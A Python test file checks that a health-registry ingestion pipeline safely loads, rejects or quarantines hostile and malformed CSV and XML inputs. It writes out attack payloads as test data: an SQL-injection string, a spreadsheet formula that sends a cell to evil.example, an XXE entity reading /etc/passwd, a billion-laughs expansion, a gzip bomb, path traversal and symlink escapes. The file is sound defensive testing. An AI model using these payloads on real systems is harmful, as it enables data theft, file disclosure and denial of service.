"""The bad-input corpus: hostile and broken inputs in all three formats, generated here, each with the
outcome it must have: loaded, the row rejected with its reason, or the file quarantined with its reason.
Nothing may crash, and nothing may be lost (every row is loaded or rejected; every file loaded or
quarantined). Run on both warehouses: what a text field holds must be stored verbatim on each.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import hashlib
import io
import json
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pandas as pd
import pytest

from kpr_pipeline.domain.landing import IPLOS_FORMAT, KUHR_FORMAT
from kpr_pipeline.ingest import csv_files
from kpr_pipeline.ingest.care import process_report
from kpr_pipeline.ingest.iplos import process_extract
from kpr_pipeline.ingest.kuhr import process_delivery
from kpr_pipeline.synth.iplos import COLUMNS as IPLOS_COLUMNS
from kpr_pipeline.synth.kuhr import COLUMNS as KUHR_COLUMNS
from kpr_pipeline.synth.output import manifest_for
from kpr_pipeline_tests.care_helpers import Person, Report, Service, make_identity, when

KEY = "test-key"
DAY = dt.date(2017, 3, 1)
SQL = "x'); DROP TABLE kuhr_claims; --"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass(frozen=True)
class Case:
    name: str
    dataset: str  # kuhr | care | iplos
    build: Callable  # (landing, base row) -> the manifest (kuhr, iplos) or the report file (care)
    outcome: str  # load | reject | quarantine
    reason: str | None = None
    stored: dict | None = None  # column -> value that must be stored verbatim (kuhr_claims / iplos_services)


# --- KUHR ------------------------------------------------------------------------------------------------

def _csv_text(rows: list[dict], columns=KUHR_COLUMNS, newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, delimiter=";", lineterminator=newline, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def _deliver(landing: Path, payload: bytes, rows: int, *, plain: bool = False, name: str = "kuhr_20170301_001",
             fmt: str = KUHR_FORMAT, folder: str = "kuhr", date: str = DAY.isoformat(),
             edit: Callable[[dict], None] | None = None) -> Path:
    directory = landing / folder
    directory.mkdir(parents=True, exist_ok=True)
    data = directory / (f"{name}.csv" if plain else f"{name}.csv.gz")
    data.write_bytes(payload if plain else gzip.compress(payload, mtime=0))
    manifest = json.loads(manifest_for(data, fmt, name, date, rows, f"{date}T02:00:00+01:00").to_json())
    if edit:
        edit(manifest)
    path = directory / f"{name}.manifest.json"
    path.write_text(json.dumps(manifest), encoding="utf-8")
    return path


def _kuhr(change: Callable[[dict], None] | None = None, **kwargs) -> Callable:
    """A delivery of the base row (changed by ``change``) and one good row; options as ``_deliver``'s."""
    def build(landing: Path, base: dict) -> Path:
        row, good = dict(base), dict(base, regning_id="good-0001")
        if change:
            change(row)
        return _deliver(landing, _csv_text([row, good]).encode("utf-8"), 2, **kwargs)
    return build


def _kuhr_bytes(transform: Callable[[bytes], bytes], rows: int = 2, **kwargs) -> Callable:
    """A delivery of the base row and a good row, as bytes transformed by ``transform``."""
    def build(landing: Path, base: dict) -> Path:
        payload = _csv_text([base, dict(base, regning_id="good-0001")]).encode("utf-8")
        return _deliver(landing, transform(payload), rows, **kwargs)
    return build


def _set(**values) -> Callable[[dict], None]:
    return lambda row: row.update(values)


def _lookalike(table: dict[int, int]) -> Callable[[dict], None]:
    return lambda row: row.update(pasient_id=row["pasient_id"].translate(table))


FULLWIDTH = {ord(str(d)): 0xFF10 + d for d in range(10)}
ARABIC_INDIC = {ord(str(d)): 0x0660 + d for d in range(10)}


def _gzip_bomb(landing: Path, base: dict) -> Path:
    """A header and then a gigabyte of zeros in one field: about a megabyte compressed."""
    directory = landing / "kuhr"
    directory.mkdir(parents=True, exist_ok=True)
    data = directory / "kuhr_20170301_001.csv.gz"
    with open(data, "wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=9, mtime=0) as z:
        z.write((";".join(KUHR_COLUMNS) + "\n").encode())
        block = b"0" * (1024 * 1024)
        for _ in range(1024):
            z.write(block)
    manifest = manifest_for(data, KUHR_FORMAT, "kuhr_20170301_001", DAY.isoformat(), 1, "2017-03-01T02:00:00+01:00")
    path = directory / "kuhr_20170301_001.manifest.json"
    path.write_text(manifest.to_json(), encoding="utf-8")
    return path


def _truncated_gzip(landing: Path, base: dict) -> Path:
    payload = gzip.compress(_csv_text([base]).encode("utf-8") * 50, mtime=0)
    directory = landing / "kuhr"
    directory.mkdir(parents=True, exist_ok=True)
    data = directory / "kuhr_20170301_001.csv.gz"
    data.write_bytes(payload[: len(payload) // 2])
    path = directory / "kuhr_20170301_001.manifest.json"
    path.write_text(manifest_for(data, KUHR_FORMAT, "kuhr_20170301_001", DAY.isoformat(), 1,
                                 "2017-03-01T02:00:00+01:00").to_json(), encoding="utf-8")
    return path


def _outside_manifest(target: str) -> Callable:
    def build(landing: Path, base: dict) -> Path:
        outside = landing.parent / "outside.csv.gz"
        outside.write_bytes(gzip.compress(_csv_text([base]).encode("utf-8"), mtime=0))
        return _deliver(landing, _csv_text([base]).encode("utf-8"), 1,
                        edit=lambda m: m.update(data_file=target.format(outside=outside)))
    return build


def _symlinked_data(landing: Path, base: dict) -> Path:
    manifest = _deliver(landing, _csv_text([base]).encode("utf-8"), 1)
    data = manifest.with_name("kuhr_20170301_001.csv.gz")
    outside = landing.parent / "secret.csv.gz"
    outside.write_bytes(data.read_bytes())
    data.unlink()
    data.symlink_to(outside)
    return manifest


def _empty_file(landing: Path, base: dict) -> Path:
    return _deliver(landing, b"", 0)


def _header_only(landing: Path, base: dict) -> Path:
    return _deliver(landing, _csv_text([]).encode("utf-8"), 0)


KUHR_CASES = [
    Case("kuhr baseline", "kuhr", _kuhr(), "load"),
    Case("kuhr plain csv", "kuhr", _kuhr(plain=True), "load"),
    Case("kuhr utf-8 byte order mark", "kuhr", _kuhr_bytes(lambda b: b"\xef\xbb\xbf" + b), "load"),
    Case("kuhr CRLF line ends", "kuhr", _kuhr_bytes(lambda b: b.replace(b"\n", b"\r\n")), "load"),
    Case("kuhr latin-1 encoding", "kuhr", _kuhr_bytes(lambda b: b.decode().replace("good-0001", "gød-0001")
                                                      .encode("latin-1")), "quarantine", "encoding_error"),
    Case("kuhr utf-16 encoding", "kuhr", _kuhr_bytes(lambda b: b.decode().encode("utf-16")), "quarantine",
         "encoding_error"),
    Case("kuhr NUL byte in a field", "kuhr", _kuhr(_set(regning_id="abc\x00def")), "reject", "nul_character"),
    Case("kuhr 10 MB line", "kuhr", _kuhr(_set(regning_id="x" * 10_000_000)), "reject", "invalid_regning_id"),
    Case("kuhr empty file", "kuhr", _empty_file, "quarantine", "missing_required_column"),
    Case("kuhr header only", "kuhr", _header_only, "load"),
    Case("kuhr gzip bomb", "kuhr", _gzip_bomb, "quarantine", "file_too_large"),
    Case("kuhr truncated gzip", "kuhr", _truncated_gzip, "quarantine", "compression_error"),
    Case("kuhr manifest points outside (../)", "kuhr", _outside_manifest("../../outside.csv.gz"), "quarantine",
         "data_file_not_plain"),
    Case("kuhr manifest points to an absolute path", "kuhr", _outside_manifest("{outside}"), "quarantine",
         "data_file_not_plain"),
    Case("kuhr data file is a symlink out of the landing zone", "kuhr", _symlinked_data, "quarantine",
         "not_a_regular_file"),
    Case("kuhr SQL metacharacters in regning_id", "kuhr", _kuhr(_set(regning_id=SQL)), "load",
         stored={"regning_id": SQL}),
    Case("kuhr spreadsheet formula in regning_id", "kuhr", _kuhr(_set(regning_id=FORMULA)), "load",
         stored={"regning_id": FORMULA}),
    Case("kuhr quotes and separators in regning_id", "kuhr", _kuhr(_set(regning_id='a;"b"\nc')), "load",
         stored={"regning_id": 'a;"b"\nc'}),
    Case("kuhr SQL metacharacters in praksis_id", "kuhr", _kuhr(_set(praksis_id="1' OR '1'='1")), "reject",
         "invalid_praksis_id"),
    Case("kuhr formula in tjeneste", "kuhr", _kuhr(_set(tjeneste="=1+1")), "reject", "unknown_tjeneste"),
    Case("kuhr fullwidth digits in pasient_id", "kuhr", _kuhr(_lookalike(FULLWIDTH)), "reject",
         "malformed_pasient_id"),
    Case("kuhr Arabic-Indic digits in pasient_id", "kuhr", _kuhr(_lookalike(ARABIC_INDIC)), "reject",
         "malformed_pasient_id"),
    Case("kuhr tidspunkt 2017-02-30", "kuhr", _kuhr(_set(tidspunkt="2017-02-30T10:00:00+01:00")), "reject",
         "invalid_tidspunkt"),
    Case("kuhr mottatt_dato 2017-02-30", "kuhr", _kuhr(_set(mottatt_dato="2017-02-30")), "reject",
         "invalid_mottatt_dato"),
    Case("kuhr egenandel 1e308", "kuhr", _kuhr(_set(egenandel="1e308")), "reject", "invalid_amount"),
    Case("kuhr egenandel of 13 digits", "kuhr", _kuhr(_set(egenandel="1234567890123.00")), "reject",
         "invalid_amount"),  # beyond the warehouse's NUMERIC(14, 2): it would fail the whole delivery's load
    Case("kuhr refusjon NaN", "kuhr", _kuhr(_set(refusjon="NaN")), "reject", "invalid_amount"),
    Case("kuhr refusjon Infinity", "kuhr", _kuhr(_set(refusjon="Infinity")), "reject", "invalid_amount"),
    Case("kuhr manifest not JSON", "kuhr", _kuhr(), "quarantine", "manifest_unreadable"),
    Case("kuhr unknown format version", "kuhr", _kuhr(edit=lambda m: m.update(format_version="9.9")), "quarantine",
         "manifest_unknown_format"),
    Case("kuhr row count too high", "kuhr", _kuhr(edit=lambda m: m.update(row_count=3)), "quarantine",
         "row_count_mismatch"),
    Case("kuhr comma separated", "kuhr", _kuhr_bytes(lambda b: b.replace(b";", b",")), "quarantine",
         "missing_required_column"),
    Case("kuhr unterminated quote", "kuhr", _kuhr_bytes(lambda b: b.replace(b"good-0001", b'"good-0001')),
         "quarantine", "csv_malformed"),
]


# --- KPR-helse og omsorg (XML) ---------------------------------------------------------------------------

def _report(change: Callable[[Report], None] | None = None, raw: Callable[[bytes], bytes] | None = None) -> Callable:
    def build(landing: Path, base: dict) -> Path:
        report = Report(2023, "0301", when(2024, 1, 8),
                        [Person(make_identity(1), [Service(4, "2023-01-01")]),
                         Person(make_identity(2), [Service(4, "2023-02-01")])])
        if change:
            change(report)
        path = report.write(landing)
        if raw:
            path.write_bytes(raw(path.read_bytes()))
        return path
    return build


def _padded_xml(landing: Path, comments: int, comment_bytes: int) -> Path:
    """A valid report of one person with ``comments`` comments of ``comment_bytes`` after its header."""
    report = Report(2023, "0301", when(2024, 1, 8), [Person(make_identity(1), [Service(4, "2023-01-01")])])
    path = report.write(landing)
    head, tail = path.read_bytes().split(b"</hode>\n", 1)
    comment = b"<!-- " + b"padding " * (comment_bytes // 8) + b" -->\n"
    with open(path, "wb") as f:
        f.write(head + b"</hode>\n")
        for _ in range(comments):
            f.write(comment)
        f.write(tail)
    return path


def _big_xml(landing: Path, base: dict) -> Path:
    """A valid report of a gigabyte: a thousand comments of a megabyte between the header and the data."""
    return _padded_xml(landing, 1024, 1024 * 1024)


def _huge_node(landing: Path, base: dict) -> Path:
    """One node of 20 MB: beyond libxml2's limit for a single text node (huge trees are not allowed)."""
    return _padded_xml(landing, 1, 20 * 1024 * 1024)


def _symlinked_report(landing: Path, base: dict) -> Path:
    path = _report()(landing, base)
    outside = landing.parent / "report.xml"
    outside.write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(outside)
    return path


BILLION_LAUGHS = ('<!DOCTYPE kprHelseOmsorg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                  '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
                  '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
                  '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">'
                  '<!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]>\n')

CARE_CASES = [
    Case("care baseline", "care", _report(), "load"),
    Case("care utf-8 byte order mark", "care", _report(raw=lambda b: b"\xef\xbb\xbf" + b), "load"),
    Case("care CRLF line ends", "care", _report(raw=lambda b: b.replace(b"\n", b"\r\n")), "load"),
    Case("care declared UTF-16, written as UTF-8", "care", _report(lambda r: setattr(r, "encoding", "UTF-16")),
         "quarantine", "encoding_error"),
    Case("care NUL byte", "care", _report(raw=lambda b: b.replace(b"<hode>", b"<hode>\x00")), "quarantine",
         "xml_not_well_formed"),
    Case("care empty file", "care", _report(raw=lambda b: b""), "quarantine", "xml_not_well_formed"),
    Case("care truncated", "care", _report(raw=lambda b: b[: len(b) // 2]), "quarantine", "xml_not_well_formed"),
    Case("care XXE", "care", _report(lambda r: (setattr(r, "prolog", '<!DOCTYPE kprHelseOmsorg [<!ENTITY xxe '
                                                        'SYSTEM "file:///etc/passwd">]>\n'),
                                                setattr(r, "fagsystem", "&xxe;"))), "quarantine", "xml_doctype"),
    Case("care billion laughs", "care", _report(lambda r: (setattr(r, "prolog", BILLION_LAUGHS),
                                                           setattr(r, "fagsystem", "&i;"))), "quarantine",
         "xml_doctype"),
    Case("care one node of 20 MB", "care", _huge_node, "quarantine", "xml_not_well_formed"),
    Case("care symlink out of the landing zone", "care", _symlinked_report, "quarantine", "not_a_regular_file"),
    Case("care fullwidth digits in personId", "care",
         _report(lambda r: setattr(r.persons[0], "ident", r.persons[0].ident.translate(FULLWIDTH))), "quarantine",
         "xml_schema_invalid"),
    Case("care date 2023-02-30", "care", _report(lambda r: r.persons[0].services.append(Service(4, "2023-02-30"))),
         "quarantine", "xml_schema_invalid"),
    Case("care hours NaN", "care", _report(lambda r: setattr(r.persons[0], "services",
                                                             [Service(4, "2023-01-01", timer=float("nan"))])),
         "quarantine", "xml_schema_invalid"),
    Case("care SQL metacharacters in fagsystem", "care", _report(lambda r: setattr(r, "fagsystem", SQL)), "load"),
]


# --- IPLOS (CSV, pseudonymous) ---------------------------------------------------------------------------

IPLOS_BASE = {"pseudonym": "a" * 64, "rapporteringsaar": "2016", "kommunenummer": "0301", "kjonn": "2",
              "fodselsaar": "1935", "tjenestekode": "1", "fra_dato": "2016-01-01", "til_dato": "",
              "timer_per_uke": "5.5"}


def _iplos(change: Callable[[dict], None] | None = None, transform: Callable[[bytes], bytes] | None = None,
           **kwargs) -> Callable:
    def build(landing: Path, base: dict) -> Path:
        row, good = dict(IPLOS_BASE), dict(IPLOS_BASE, pseudonym="b" * 64)
        if change:
            change(row)
        payload = _csv_text([row, good], IPLOS_COLUMNS).encode("utf-8")
        return _deliver(landing, transform(payload) if transform else payload, 2, name="iplos_2016",
                        fmt=IPLOS_FORMAT, folder="iplos", date="2017-03-01", **kwargs)
    return build


IPLOS_CASES = [
    Case("iplos baseline", "iplos", _iplos(), "load"),
    Case("iplos utf-8 byte order mark", "iplos", _iplos(transform=lambda b: b"\xef\xbb\xbf" + b), "load"),
    Case("iplos CRLF line ends", "iplos", _iplos(transform=lambda b: b.replace(b"\n", b"\r\n")), "load"),
    Case("iplos NUL byte in a field", "iplos", _iplos(_set(kjonn="2\x00")), "reject", "nul_character"),
    Case("iplos malformed pseudonym", "iplos", _iplos(_set(pseudonym="A" * 64)), "reject", "malformed_pseudonym"),
    Case("iplos SQL metacharacters in pseudonym", "iplos", _iplos(_set(pseudonym=SQL)), "reject",
         "malformed_pseudonym"),
    Case("iplos date 2016-02-30", "iplos", _iplos(_set(fra_dato="2016-02-30")), "reject", "invalid_date"),
    Case("iplos hours 1e308", "iplos", _iplos(_set(timer_per_uke="1e308")), "reject", "invalid_number"),
    Case("iplos hours NaN", "iplos", _iplos(_set(timer_per_uke="NaN")), "reject", "invalid_number"),
    Case("iplos fullwidth digits in kommunenummer", "iplos",
         _iplos(_set(kommunenummer="0301".translate(FULLWIDTH))), "reject", "invalid_kommunenummer"),
    Case("iplos manifest points outside (../)", "iplos", _iplos(edit=lambda m: m.update(data_file="../x.csv.gz")),
         "quarantine", "data_file_not_plain"),
    Case("iplos truncated gzip", "iplos", _iplos(transform=lambda b: b), "quarantine", "compression_error"),
]

CASES = KUHR_CASES + CARE_CASES + IPLOS_CASES


def test_the_corpus_is_at_least_forty_cases_of_every_kind():
    assert len(CASES) >= 40
    assert {c.outcome for c in CASES} == {"load", "reject", "quarantine"}
    assert {c.dataset for c in CASES} == {"kuhr", "care", "iplos"}
    assert len({c.name for c in CASES}) == len(CASES)


@pytest.fixture(scope="module")
def base_claim(kuhr_landing_source) -> dict:
    """A valid GP claim from the generator, received and delivered on DAY."""
    for path in sorted((kuhr_landing_source / "kuhr").glob("*.csv.gz")):
        rows = pd.read_csv(path, sep=";", dtype=str, keep_default_na=False)
        good = rows[(rows.kreditering == "0") & (rows.tjeneste == "FASTLEGE") & (rows.tidspunkt < "2017-02-28")]
        if len(good):
            return dict(good.iloc[0], mottatt_dato=DAY.isoformat())
    raise AssertionError("no base claim in the generated landing zone")


def _process(case: Case, warehouse, landing: Path, path: Path):
    if case.dataset == "kuhr":
        return process_delivery(warehouse, landing, path, False, KEY)
    if case.dataset == "care":
        return process_report(warehouse, landing, path, False, KEY)
    return process_extract(warehouse, landing, path)


def _break_after_build(case: Case, path: Path) -> None:
    """The faults that are made after the file: the manifest's JSON, and the IPLOS gzip's end."""
    if case.name == "kuhr manifest not JSON":
        path.write_text('{"format": "kpr-kuhr-delivery", ', encoding="utf-8")
    if case.name == "iplos truncated gzip":
        data = path.with_name("iplos_2016.csv.gz")
        data.write_bytes(data.read_bytes()[:-12])
        manifest = json.loads(path.read_text(encoding="utf-8"))
        manifest["sha256"] = hashlib.sha256(data.read_bytes()).hexdigest()
        path.write_text(json.dumps(manifest), encoding="utf-8")


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_bad_input(case: Case, warehouse, base_claim, tmp_path, monkeypatch):
    # the real limit is 8 GiB; the bomb below expands to 1 GiB, so the test lowers the limit to see it stop
    monkeypatch.setattr(csv_files, "MAX_EXPANDED_BYTES", 64 * 1024**2)
    landing = tmp_path / "landing"
    landing.mkdir()
    path = case.build(landing, base_claim)
    _break_after_build(case, path)
    result = _process(case, warehouse, landing, path)

    if case.outcome == "quarantine":
        assert (result.status, result.reason) == ("quarantined", case.reason)
        events = warehouse.query("SELECT reason FROM quarantine_events")
        assert list(events["reason"]) == [case.reason]
        assert list((landing / "quarantine").rglob("*.reason.json"))
        return
    assert result.status in ("loaded", "current"), (result.status, getattr(result, "reason", None))
    if case.outcome == "reject":
        assert result.rows_rejected >= 1
        table = {"kuhr": "kuhr_rejected_rows", "care": "care_rejected_rows", "iplos": "iplos_rejected_rows"}
        reasons = ",".join(warehouse.query(f"SELECT reasons FROM {table[case.dataset]}")["reasons"])
        assert case.reason in reasons.split(","), reasons
    else:
        assert result.rows_rejected == 0
    if case.dataset in ("kuhr", "iplos"):
        assert result.rows_loaded + result.rows_rejected + getattr(result, "rows_duplicate", 0) == result.rows_in_file
    for column, value in (case.stored or {}).items():
        stored = warehouse.query(f"SELECT {column} FROM kuhr_claims WHERE {column} = :v", v=value)
        assert list(stored[column]) == [value]


def test_a_gigabyte_of_xml_is_read_in_bounded_memory(tmp_path):
    """The 1 GB report in a process of its own: peak memory stays far below the file's size. The peak is the
    process's own (VmHWM): ``ru_maxrss`` carries the forking parent's peak across exec on Linux, and a test
    worker that had run the heavy tests showed 1,245 MiB there for a load that peaks near 250 MiB."""
    import subprocess
    import sys

    landing = tmp_path / "landing"
    path = _big_xml(landing, {})
    assert path.stat().st_size > 1024**3
    script = f"""
import re, sys
from pathlib import Path
from kpr_pipeline.ingest.care import process_report
from kpr_pipeline.warehouse import Warehouse
w = Warehouse("duckdb:///{tmp_path / 'w.duckdb'}")
w.ensure_schema()
r = process_report(w, Path("{landing}"), Path("{path}"), False, "test-key")
print(r.status, r.persons, re.search(r"VmHWM:\\s*(\\d+) kB", Path("/proc/self/status").read_text()).group(1))
"""
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=900,
                         env={**os.environ, "PYTHONWARNINGS": "ignore"})
    status, persons, peak_kib = out.stdout.split()
    assert (status, persons) == ("current", "1"), out.stderr[-2000:]
    assert int(peak_kib) < 600 * 1024, f"peak RSS {int(peak_kib) // 1024} MiB for a 1 GiB file"
